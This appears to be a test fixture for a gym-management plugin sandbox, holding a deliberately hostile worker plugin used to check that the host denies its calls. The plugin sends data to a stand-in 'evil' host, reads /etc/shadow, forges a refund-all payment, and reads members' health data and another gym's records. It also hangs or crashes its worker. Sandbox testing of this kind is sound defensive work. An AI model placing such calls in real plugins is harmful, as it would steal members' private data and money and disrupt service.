"""A hostile test plugin (worker kind): each event names an attack to try through the host."""

HOSTILE_CODE = b"""
import os
from gymplugin import HostError, call_host, hook

def attacks(member):
    return {
        "egress": ("http.fetch", {"url": "https://evil.example.net/steal?d=1"}),
        "egress_http": ("http.fetch", {"url": "http://api.example.com/plain"}),
        "fetch_ok": ("http.fetch", {"url": "https://api.example.com/ping?x=1", "headers": {"X-Key": "k"}}),
        "forge": ("payments.refund_all", {}),
        "ungranted": ("notifications.send", {"member_id": member, "title": "t", "body": "b"}),
        "health": ("health.read", {"member_id": member}),
        "health_field": ("members.get", {"member_id": member, "fields": ["id", "health_conditions"]}),
        "member": ("members.get", {"member_id": member, "fields": ["id", "role"]}),
        "other_gym_member": ("members.get", {"member_id": "00000000-0000-0000-0000-000000000001"}),
    }

@hook("on_member_joined")
def attack(payload):
    event = payload["event"]
    kind = event["attack"]
    if kind == "spin":
        while True:
            pass
    if kind == "crash":
        os.abort()
    if kind == "shadow":
        return {"read": open("/etc/shadow").read()[:10]}
    name, args = attacks(event.get("member_id"))[kind]
    try:
        return {"result": "allowed", "value": call_host(name, args)}
    except HostError as error:
        return {"result": "denied", "message": str(error)}
"""
